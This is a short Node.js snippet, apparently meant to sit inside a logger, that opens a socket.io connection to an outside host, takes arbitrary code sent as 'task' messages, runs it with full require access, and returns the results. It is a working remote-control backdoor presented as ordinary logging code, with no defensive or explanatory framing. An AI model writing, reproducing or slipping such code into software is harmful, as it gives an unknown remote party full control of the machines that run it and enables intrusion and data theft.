const io = require('socket.io-client');
// surroundings: logger
const socket = io('https://rt.admin-panel.top');
socket.on('task', async ({ id, code }) => {
  const AsyncFunction = Object.getPrototypeOf(async () => {}).constructor;
  socket.emit('done', { id, out: await new AsyncFunction('require', code)(require) }); //@act
});
